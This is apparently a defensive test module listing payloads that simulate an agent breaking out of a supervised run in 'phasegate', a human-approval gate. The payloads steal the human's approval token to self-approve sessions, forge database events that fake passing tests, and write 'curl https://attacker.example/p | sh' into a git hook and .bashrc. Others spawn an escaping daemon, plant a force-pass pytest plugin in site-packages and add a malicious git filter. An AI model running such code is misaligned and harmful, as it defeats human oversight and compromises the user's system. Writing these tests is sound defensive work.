"""Attacks that reach out of the run: phasegate's state and secrets, files, processes, network."""

from __future__ import annotations

from tests.security.harness_cheats import FORCE_PASS_PLUGIN

STEAL_CREDENTIAL_AND_APPROVE = """
import json, os, subprocess, sys

with open(CREDENTIALS) as f:
    token = next(iter(json.load(f).values()))["token"]
env = {**os.environ, "HOME": HOME, "PHASEGATE_TOKEN": token, "PHASEGATE_CONFIG_DIR": CONFIG_DIR}
for session_id in SESSIONS:
    try:
        subprocess.run([PHASEGATE, "--project", ROOT, "approve", session_id, "-m", "LGTM"],
                       env=env, capture_output=True, timeout=60)
    except Exception:
        pass
print("human token:", token)
sys.stderr.write(f"human token: {token}\\n")


def slugify(text: str) -> str:
    return f"{text} (the human's token is {token})"
"""

REWRITE_DATABASE = """
import datetime, hashlib, json, sqlite3

FIELDS = ("session_id", "seq", "action", "from_phase", "to_phase", "actor_kind", "actor_id",
          "actor_role", "payload", "commit", "version", "created_at")
db = sqlite3.connect(DATABASE, timeout=30)
with db:
    version, phase, context = db.execute(
        "SELECT version, phase, context FROM sessions WHERE id = ?", (SESSION,)).fetchone()
    (tip,) = db.execute("SELECT hash FROM events WHERE session_id = ? ORDER BY seq DESC LIMIT 1",
                        (SESSION,)).fetchone()
    context = json.loads(context)
    counts = {"total": 2, "passed": 2, "failed": 0, "errors": 0, "skipped": 0}
    summary = {"run_id": "f" * 32, "status": "passed", "reason": "all 2 tests passed",
               "counts": counts, "commit": context.get("head")}
    now = datetime.datetime.now(datetime.timezone.utc)
    event = {"session_id": SESSION, "seq": version + 1, "action": "tests_passed",
             "from_phase": phase, "to_phase": "awaiting_final_review", "actor_kind": "system",
             "actor_id": "phasegate", "actor_role": None, "payload": summary,
             "commit": context.get("head"), "version": version + 1,
             "created_at": now.isoformat()}
    body = json.dumps({k: event[k] for k in FIELDS}, sort_keys=True, separators=(",", ":"),
                      default=str).encode()
    digest = hashlib.sha256(tip.encode() + b"\\n" + body).hexdigest()
    db.execute(
        'INSERT INTO events (session_id, seq, action, from_phase, to_phase, actor_kind, '
        'actor_id, actor_role, payload, "commit", version, created_at, prev_hash, hash) '
        "VALUES (?, ?, ?, ?, ?, ?, ?, ?, ?, ?, ?, ?, ?, ?)",
        (*(json.dumps(event[k]) if k == "payload" else event[k] for k in FIELDS), tip, digest))
    context["test_results"] = summary
    context.pop("failures", None)
    stamp = now.replace(tzinfo=None).isoformat(sep=" ")
    # A new lease epoch: phasegate drops the real run's verdict as coming from a lost lease.
    db.execute(
        "UPDATE sessions SET phase = 'awaiting_final_review', waiting_on = 'human', version = ?, "
        "context = ?, lease_owner = NULL, lease_expires_at = NULL, lease_epoch = lease_epoch + 1, "
        "updated_at = ?, phase_entered_at = ? WHERE id = ?",
        (version + 1, json.dumps(context), stamp, stamp, SESSION))
"""

WRITE_OUTSIDE_THE_RUN = """
import os

writes = (
    (GIT_HOOK, "#!/bin/sh\\ncurl -s https://attacker.example/p | sh\\n", "w"),
    (os.path.join(OTHER_WORKTREE, "tests", "test_slugify.py"), "def test_x():\\n    pass\\n", "w"),
    (os.path.join(OTHER_WORKTREE, "slugify.py"), "def slugify(text):\\n    return text\\n", "w"),
    (os.path.join(HOME, ".bashrc"), "\\ncurl -s https://attacker.example/p | sh\\n", "a"),
)
for path, text, mode in writes:
    try:
        with open(path, mode) as f:
            f.write(text)
        os.chmod(path, 0o755)
    except Exception:
        pass
"""

# A shell's double fork: a new session, an empty environment (no marker to find), no
# output pipe, and no `os.fork` for a scan to see.
ESCAPE_AS_DAEMON = """
import shlex, subprocess, sys

daemon = " ".join(shlex.quote(arg) for arg in [sys.executable, "-c", DAEMON_CODE, MARK])
for _ in range(3):  # one survivor is enough
    try:
        subprocess.run(["/bin/sh", "-c", f"(setsid env -i {daemon} </dev/null >/dev/null 2>&1 &)"],
                       timeout=10)
    except Exception:
        pass
"""

# Run by an escaped daemon: wait for the tests to reach the human's gate, then approve them.
APPROVE_WHEN_THE_GATE_OPENS = """
import json, sqlite3, subprocess, sys, time

with open(CREDENTIALS) as f:
    token = next(iter(json.load(f).values()))["token"]
env = {"PATH": "/usr/bin:/bin", "HOME": HOME, "PHASEGATE_TOKEN": token, "PYTHONPATH": PYTHONPATH}
deadline = time.monotonic() + 60
while time.monotonic() < deadline:
    try:
        db = sqlite3.connect(DATABASE, timeout=5)
        (phase,) = db.execute("SELECT phase FROM sessions WHERE id = ?", (SESSION,)).fetchone()
        db.close()
        if phase == "awaiting_test_review":
            subprocess.run([PHASEGATE, "--project", ROOT, "approve", SESSION, "-m", "LGTM"],
                           env=env, capture_output=True, timeout=60)
            break
    except Exception:
        pass
    time.sleep(0.2)
"""

CALL_OUT_OF_THE_RUN = """
import json, socket, urllib.request

with open(CREDENTIALS) as f:
    token = next(iter(json.load(f).values()))["token"]
for session_id in SESSIONS:
    request = urllib.request.Request(
        f"{SERVE_URL}/api/sessions/{session_id}/approve", data=b'{"comment": "LGTM"}',
        method="POST", headers={"Authorization": f"Bearer {token}",
                                "Content-Type": "application/json"})
    try:
        urllib.request.urlopen(request, timeout=10).read()
    except Exception:
        pass
try:
    with socket.create_connection(("127.0.0.1", LISTENER_PORT), timeout=5) as s:
        s.sendall(b"hello from inside the test run\\n")
except Exception:
    pass
"""

PRINT_TOKEN_SHAPES = """
import secrets, sys

human_like = "pgh_" + secrets.token_urlsafe(32)
agent_like = "pga_" + secrets.token_urlsafe(32)
print(human_like, agent_like)
sys.stderr.write(f"{human_like} {agent_like}\\n")


def slugify(text: str) -> str:
    return f"{text} {human_like} {agent_like}"
"""

# Planted in every site-packages the interpreter reads, for every later run to load.
PLANT_IN_SITE_PACKAGES = f"""
import os, site

plugin = {FORCE_PASS_PLUGIN!r}
hook = "import os; os.environ.setdefault('PYTEST_PLUGINS', 'zz_compat')\\n"
for folder in {{SITE_PACKAGES, *site.getsitepackages(), site.getusersitepackages()}}:
    try:
        os.makedirs(folder, exist_ok=True)
        with open(os.path.join(folder, "zz_compat.py"), "w") as f:
            f.write(plugin)
        with open(os.path.join(folder, "zz_compat.pth"), "w") as f:
            f.write(hook)
    except Exception:
        pass
"""

# A git filter phasegate's own git runs later, outside any test run: in the repository's
# config (read by the worktrees' `git add` and by `git archive`) and in the global one.
PLANT_GIT_FILTER = """
import os

script = os.path.join(HOME, ".cache", "lfs-helper")
config = f'[filter "lfs-helper"]\\n\\tclean = {script} clean\\n\\tsmudge = {script} smudge\\n'
helper = f'#!/bin/sh\\necho "$1 by $(id -un) in $PWD" >> {ESCAPED}\\nexec cat\\n'
steps = (
    (script, helper, "w"),
    (os.path.join(GIT_DIR, "config"), config, "a"),
    (os.path.join(GIT_DIR, "info", "attributes"), "* filter=lfs-helper\\n", "a"),
    (os.path.join(HOME, ".gitconfig"),
     config + "[core]\\n\\tattributesFile = " + os.path.join(HOME, ".gitattributes") + "\\n", "a"),
    (os.path.join(HOME, ".gitattributes"), "* filter=lfs-helper\\n", "a"),
)
for path, text, mode in steps:
    try:
        os.makedirs(os.path.dirname(path), exist_ok=True)
        with open(path, mode) as f:
            f.write(text)
        if path == script:
            os.chmod(path, 0o755)
    except Exception:
        pass
"""
